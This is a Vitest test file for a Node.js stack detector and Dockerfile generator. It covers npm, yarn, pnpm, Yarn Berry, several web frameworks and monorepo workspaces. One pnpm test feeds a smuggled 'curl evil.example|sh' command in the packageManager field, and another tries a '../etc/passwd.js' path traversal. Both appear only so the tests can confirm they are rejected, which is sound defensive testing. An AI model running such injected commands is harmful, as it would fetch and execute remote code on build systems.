import { describe, expect, it } from 'vitest';
import { writeTree } from '../../../tests/helpers/write-tree';
import { expectValidDockerfile } from '../../../tests/helpers/valid-dockerfile';
import { detectNode } from '@/lib/stacks/node/detect-node';
import { generateNode } from '@/lib/stacks/node/generate-node';

const pkg = (body: object) => JSON.stringify({ name: 'app', version: '1.0.0', ...body });

describe('detectNode', () => {
  it('runs the start script with node directly, with npm ci from the lockfile', () => {
    const stack = detectNode(
      writeTree({ 'package.json': pkg({ scripts: { start: 'node server.js' } }), 'package-lock.json': '{}', 'server.js': 'app.listen(process.env.PORT || 3000)\n' }),
    );
    expect(stack).toMatchObject({ buildTool: 'npm', lockfile: 'package-lock.json', command: ['node', 'server.js'], sourceFile: 'server.js', port: 3000, next: null });
  });

  it('knows yarn and pnpm by their lockfiles, and warns when there is none', () => {
    expect(detectNode(writeTree({ 'package.json': pkg({ main: 'index.js' }), 'yarn.lock': '', 'index.js': '' }))?.buildTool).toBe('yarn');
    expect(detectNode(writeTree({ 'package.json': pkg({ main: 'index.js' }), 'pnpm-lock.yaml': '', 'index.js': '' }))?.buildTool).toBe('pnpm');
    const unlocked = detectNode(writeTree({ 'package.json': pkg({ main: 'index.js' }), 'index.js': '' }))!;
    expect(unlocked.lockfile).toBeNull();
    expect(unlocked.reasons[0]).toMatch(/No lockfile/);
  });

  it('installs pnpm with npm, pinned: the version packageManager names, else the major of its lockfile format', () => {
    const withPnpm = (packageManager: string | undefined, lock: string) =>
      detectNode(writeTree({ 'package.json': pkg({ main: 'index.js', packageManager }), 'pnpm-lock.yaml': lock, 'index.js': '' }))!;
    const declared = withPnpm(
      'pnpm@9.15.0+sha512.76e2379760a4328ec4415815bcd6628dee727af3779aaa4c914e3944156c4299921a89f976381ee107d41f12cfa4b66681ca9c718f0668fa0831ed4c6d8ba56c',
      "lockfileVersion: '9.0'\n",
    );
    expect(declared.pnpmVersion).toBe('9.15.0');
    expect(declared.reasons.join('\n')).toMatch(/pnpm 9\.15\.0 \(packageManager\) is installed with npm install -g/);
    const { singleStage, multiStage } = generateNode(declared);
    expect(multiStage).toContain('npm install -g pnpm@9.15.0 && pnpm install --frozen-lockfile');
    expect(singleStage).toContain('RUN npm install -g pnpm@9.15.0 && pnpm install --frozen-lockfile');
    expect(multiStage).not.toContain('corepack');
    expect(withPnpm(undefined, "lockfileVersion: '6.0'\n").pnpmVersion).toBe('8');
    expect(withPnpm(undefined, 'lockfileVersion: 5.4\n').pnpmVersion).toBe('7');
    // nothing but a version reaches the RUN line
    expect(withPnpm('pnpm@9.0.0;curl evil.example|sh', '').pnpmVersion).toBe('9');
  });

  it('finds Next.js standalone output', () => {
    const stack = detectNode(
      writeTree({
        'package.json': pkg({ scripts: { build: 'next build', start: 'next start' }, dependencies: { next: '16.0.0' } }),
        'package-lock.json': '{}',
        'next.config.mjs': "export default { output: 'standalone' };\n",
        'public/favicon.ico': '',
      }),
    )!;
    expect(stack).toMatchObject({ next: { standalone: true, hasPublic: true }, hasBuild: true, command: ['node', 'server.js'], port: 3000 });
    const { multiStage } = generateNode(stack);
    expect(multiStage).toContain('COPY --from=builder --chown=node:node /app/.next/standalone ./');
    expect(multiStage).toContain('COPY --from=builder --chown=node:node /app/public ./public');
    expect(multiStage).not.toContain('npm prune');
    expectValidDockerfile(multiStage);
  });

  it('says what it looked for when nothing runs', () => {
    expect(() => detectNode(writeTree({ 'package.json': pkg({}) }))).toThrow(/nothing to run: looked for a start, dev or serve script/);
  });

  it('runs the file a dev script runs through nodemon, when main names a file that is not there', () => {
    const root = writeTree({
      'package.json': pkg({ main: 'index.js', scripts: { dev: 'nodemon src/index.js', test: 'jest' }, devDependencies: { nodemon: '3.0.0' } }),
      'package-lock.json': '{}',
      'src/index.js': "const port = process.env.PORT || 4000;\nrequire('http').createServer(() => {}).listen(port);\n",
    });
    expect(detectNode(root)).toMatchObject({ entryPoint: 'src/index.js', command: ['node', 'src/index.js'], sourceFile: 'src/index.js', port: 4000 });
    expect(detectNode(root)!.reasons.join(' ')).toMatch(/src\/index\.js, which the dev script runs with nodemon/);
  });

  it('runs TypeScript from what tsc writes: node dist/…js', () => {
    const root = writeTree({
      'package.json': pkg({ scripts: { build: 'tsc -p .', dev: 'tsx watch src/server.ts', start: 'node dist/server.js' } }),
      'package-lock.json': '{}',
      'tsconfig.json': '{ "compilerOptions": { "outDir": "./dist", "rootDir": "./src" } }',
      'src/server.ts': 'export {};\n',
    });
    // the start script names a file the build makes: node runs it directly
    expect(detectNode(root)).toMatchObject({ entryPoint: 'start', command: ['node', 'dist/server.js'], sourceFile: 'src/server.ts' });
    expect(detectNode(root, { entryPoint: 'src/server.ts' })).toMatchObject({ command: ['node', 'dist/server.js'], sourceFile: 'src/server.ts' });
    const devOnly = writeTree({
      'package.json': pkg({ scripts: { build: 'tsc', dev: 'ts-node-dev --respawn src/index.ts' } }),
      'tsconfig.json': '{ "compilerOptions": { "outDir": "build" } }',
      'src/index.ts': '',
    });
    expect(detectNode(devOnly)).toMatchObject({ entryPoint: 'src/index.ts', command: ['node', 'build/index.js'] });
  });

  it('finds bin and src/ files, and takes any JavaScript file the user names', () => {
    const root = writeTree({ 'package.json': pkg({ bin: { tool: './cli.js' } }), 'cli.js': '', 'src/app.mjs': '', 'tools/job.js': '' });
    expect(detectNode(root)!.entryPoints).toEqual(['cli.js', 'src/app.mjs']);
    expect(detectNode(root, { entryPoint: 'tools/job.js' })).toMatchObject({ entryPoint: 'tools/job.js', command: ['node', 'tools/job.js'] });
    expect(() => detectNode(root, { entryPoint: '../etc/passwd.js' })).toThrow(/neither one Shipshape found \(cli\.js, src\/app\.mjs\) nor a JavaScript/);
    expect(() => detectNode(root, { entryPoint: 'tools/missing.js' })).toThrow(/neither one Shipshape found/);
  });
});

describe('generateNode', () => {
  it('builds with dev dependencies, keeps production ones, and runs as node on slim', () => {
    const stack = detectNode(writeTree({ 'package.json': pkg({ scripts: { build: 'tsc', start: 'node dist/index.js' } }), 'package-lock.json': '{}', 'dist/index.js': '' }))!;
    const { singleStage, multiStage, finalBase } = generateNode(stack);
    expect(singleStage).toContain('FROM node:22\nWORKDIR /app\nCOPY . .\nRUN npm ci\nRUN npm run build');
    expect(multiStage).toContain('COPY package.json package-lock.json ./\nRUN --mount=type=cache,target=/root/.npm npm ci');
    expect(multiStage).toContain('RUN --mount=type=cache,target=/root/.npm npm prune --omit=dev');
    expect(multiStage).toContain('FROM node:22-slim\nWORKDIR /app\nENV NODE_ENV=production\nCOPY --from=builder --chown=node:node /app ./');
    expect(multiStage).toContain('USER node\nCMD ["node", "dist/index.js"]');
    expect(finalBase.base.image).toBe('node:22-slim');
    expectValidDockerfile(singleStage);
    expectValidDockerfile(multiStage);
  });
});

describe('Yarn 2+ (Berry)', () => {
  const berry = (extra: Record<string, string> = {}) =>
    writeTree({
      'package.json': JSON.stringify({ name: 'b', packageManager: 'yarn@4.5.3', scripts: { start: 'node server.js' }, dependencies: { ms: '2.1.3' } }),
      'yarn.lock': '__metadata:\n  version: 8\n',
      'server.js': "require('node:http').createServer().listen(3000);\n",
      ...extra,
    });

  it("installs --immutable through corepack, keeps production dependencies with Yarn 4, and runs Plug'n'Play through .pnp.cjs", () => {
    const stack = detectNode(berry())!;
    expect(stack).toMatchObject({ buildTool: 'yarn', yarnBerry: { major: 4, pnp: true }, command: ['node', 'server.js'] });
    const { singleStage, multiStage } = generateNode(stack);
    expect(multiStage).toContain('ENV COREPACK_NPM_REGISTRY=https://registry.npmjs.org');
    expect(multiStage).toContain('corepack enable && yarn install --immutable');
    // Plug'n'Play runs from the zip files: they stay in the project and ship, no cache mount
    expect(multiStage).toContain('ENV YARN_ENABLE_GLOBAL_CACHE=false');
    expect(multiStage).not.toContain('--mount=type=cache');
    expect(multiStage).toContain('yarn workspaces focus --all --production');
    expect(multiStage).toContain('ENV NODE_OPTIONS="--require /app/.pnp.cjs"');
    expect(singleStage).toContain('ENV NODE_OPTIONS="--require /app/.pnp.cjs"');
    expect(multiStage).not.toContain('--frozen-lockfile');
  });

  it('node_modules where .yarnrc.yml asks for them; Yarn 2 and 3 keep their dev dependencies (said so)', () => {
    const stack = detectNode(
      berry({ '.yarnrc.yml': 'nodeLinker: node-modules\n', 'package.json': JSON.stringify({ name: 'b', packageManager: 'yarn@3.6.4', scripts: { start: 'node server.js' } }) }),
    )!;
    expect(stack.yarnBerry).toEqual({ major: 3, pnp: false });
    const { multiStage } = generateNode(stack);
    expect(multiStage).not.toContain('NODE_OPTIONS');
    expect(multiStage).toContain('--mount=type=cache,target=/root/.yarn/berry/cache');
    expect(multiStage).not.toMatch(/^RUN .*workspaces focus/m);
    expect(multiStage).toContain('dev dependencies stay');
  });

  it('Yarn 1 stays classic', () => {
    const root = writeTree({ 'package.json': JSON.stringify({ name: 'c', scripts: { start: 'node server.js' } }), 'yarn.lock': '# yarn lockfile v1\n', 'server.js': '' });
    expect(detectNode(root)!.yarnBerry).toBeNull();
    expect(generateNode(detectNode(root)!).multiStage).toContain('yarn install --frozen-lockfile');
  });
});

describe('server frameworks', () => {
  it('Nuxt: its built server runs with node, and only .output ships', () => {
    const root = writeTree({
      'package.json': JSON.stringify({ name: 'n', scripts: { build: 'nuxt build', dev: 'nuxt dev' }, dependencies: { nuxt: '^3.13.0', vue: '^3.5.0' } }),
      'app.vue': '<template><p>hi</p></template>\n',
    });
    const stack = detectNode(root)!;
    expect(stack).toMatchObject({
      entryPoint: '.output/server/index.mjs',
      command: ['node', '.output/server/index.mjs'],
      port: 3000,
      framework: { name: 'nuxt', selfContained: true },
      sourceFile: 'app.vue',
    });
    expect(stack.frontEnd ?? null).toBeNull();
    const { multiStage } = generateNode(stack);
    expect(multiStage).toContain('COPY --from=builder --chown=node:node /app/.output ./.output');
    expect(multiStage).not.toContain('COPY --from=builder --chown=node:node /app ./');
    expect(multiStage).not.toContain('npm prune');
    expect(multiStage).toContain('CMD ["node", ".output/server/index.mjs"]');
  });

  it('SvelteKit with adapter-node and Remix: the built server, with production dependencies', () => {
    const svelte = detectNode(
      writeTree({
        'package.json': JSON.stringify({
          name: 's',
          scripts: { build: 'vite build', dev: 'vite dev' },
          devDependencies: { '@sveltejs/kit': '^2.0.0', '@sveltejs/adapter-node': '^5.0.0', vite: '^5.0.0' },
        }),
        'src/routes/+page.svelte': '<h1>hi</h1>\n',
      }),
    )!;
    expect(svelte).toMatchObject({ command: ['node', 'build'], port: 3000, framework: { name: 'sveltekit' } });
    expect(generateNode(svelte).multiStage).toContain('npm prune --omit=dev');
    const remix = detectNode(
      writeTree({
        'package.json': JSON.stringify({
          name: 'r',
          scripts: { build: 'remix vite:build', start: 'remix-serve ./build/server/index.js' },
          dependencies: { '@remix-run/serve': '^2.0.0', '@remix-run/node': '^2.0.0' },
        }),
      }),
    )!;
    expect(remix).toMatchObject({ command: ['node_modules/.bin/remix-serve', './build/server/index.js'], port: 3000, framework: { name: 'remix' } });
  });
});

describe('an app of a workspace', () => {
  const workspace = () =>
    writeTree({
      'package.json': JSON.stringify({ name: 'acme', private: true, workspaces: ['apps/*', 'packages/*'] }),
      'package-lock.json': '{"lockfileVersion": 3}\n',
      'packages/greet/package.json': JSON.stringify({ name: '@acme/greet', version: '1.0.0', main: 'index.js' }),
      'apps/api/package.json': JSON.stringify({ name: '@acme/api', scripts: { start: 'node server.js', build: 'node build.js' }, dependencies: { '@acme/greet': '1.0.0' } }),
      'apps/api/server.js': "require('node:http').createServer().listen(3000);\n",
    });

  it("builds from the workspace's root: its lockfile and each workspace's manifest first, this app's build, run in its folder", () => {
    const root = workspace();
    const stack = detectNode(`${root}/apps/api`, { repoRoot: root })!;
    expect(stack).toMatchObject({
      buildTool: 'npm',
      lockfile: 'package-lock.json',
      workspace: { root: '../..', dir: 'apps/api', name: '@acme/api', manifests: ['package.json', 'package-lock.json', 'apps/api/package.json', 'packages/greet/package.json'] },
    });
    const { singleStage, multiStage } = generateNode(stack);
    expect(multiStage).toContain(
      'COPY package.json package-lock.json ./\nCOPY apps/api/package.json apps/api/\nCOPY packages/greet/package.json packages/greet/\nRUN --mount=type=cache,target=/root/.npm npm ci',
    );
    expect(multiStage).toContain('RUN npm run build --workspace=apps/api');
    expect(multiStage).toContain('WORKDIR /app/apps/api');
    expect(singleStage).toContain('WORKDIR /app/apps/api\nEXPOSE 3000\nCMD ["node", "server.js"]');
    for (const text of [singleStage, multiStage]) expectValidDockerfile(text);
  });

  it('builds the workspace packages it uses first, dependencies first, each once; a package with no build, or one it does not use, is not built', () => {
    const root = writeTree({
      'package.json': JSON.stringify({ name: 'acme', private: true, workspaces: ['apps/*', 'packages/*'] }),
      'package-lock.json': '{"lockfileVersion": 3}\n',
      'turbo.json': '{"tasks": {"build": {"dependsOn": ["^build"]}}}\n',
      'packages/tokens/package.json': JSON.stringify({ name: '@acme/tokens', scripts: { build: 'tsc' } }),
      'packages/ui/package.json': JSON.stringify({ name: '@acme/ui', scripts: { build: 'tsc' }, dependencies: { '@acme/tokens': '*', '@acme/web': '*' } }),
      'packages/config/package.json': JSON.stringify({ name: '@acme/config' }),
      'packages/unused/package.json': JSON.stringify({ name: '@acme/unused', scripts: { build: 'tsc' } }),
      'apps/web/package.json': JSON.stringify({
        name: '@acme/web',
        scripts: { start: 'node server.js' },
        dependencies: { '@acme/ui': '*', '@acme/tokens': '*' },
        devDependencies: { '@acme/config': '*' },
      }),
      'apps/web/server.js': "require('node:http').createServer().listen(3000);\n",
    });
    const stack = detectNode(`${root}/apps/web`, { repoRoot: root })!;
    expect(stack.workspace?.builtFirst).toEqual([
      { dir: 'packages/tokens', name: '@acme/tokens' },
      { dir: 'packages/ui', name: '@acme/ui' },
    ]);
    expect(stack.reasons).toContain(
      "It uses workspace packages with a build of their own: packages/tokens, packages/ui are built first, dependencies first (as Turborepo's ^build would, with each package's build script).",
    );
    const { singleStage, multiStage } = generateNode(stack);
    // the app has no build of its own: only its packages are built
    for (const text of [singleStage, multiStage]) {
      expect(text).toContain('RUN npm run build --workspace=packages/tokens \\\n && npm run build --workspace=packages/ui\n');
      expectValidDockerfile(text);
    }
  });

  it('without the repository root (or outside any workspace) it is an app of its own', () => {
    const root = workspace();
    expect(detectNode(`${root}/apps/api`)!.workspace).toBeUndefined();
    const alone = writeTree({ 'apps/api/package.json': JSON.stringify({ name: 'a', scripts: { start: 'node server.js' } }), 'apps/api/server.js': '' });
    expect(detectNode(`${alone}/apps/api`, { repoRoot: alone })!.workspace).toBeUndefined();
  });
});
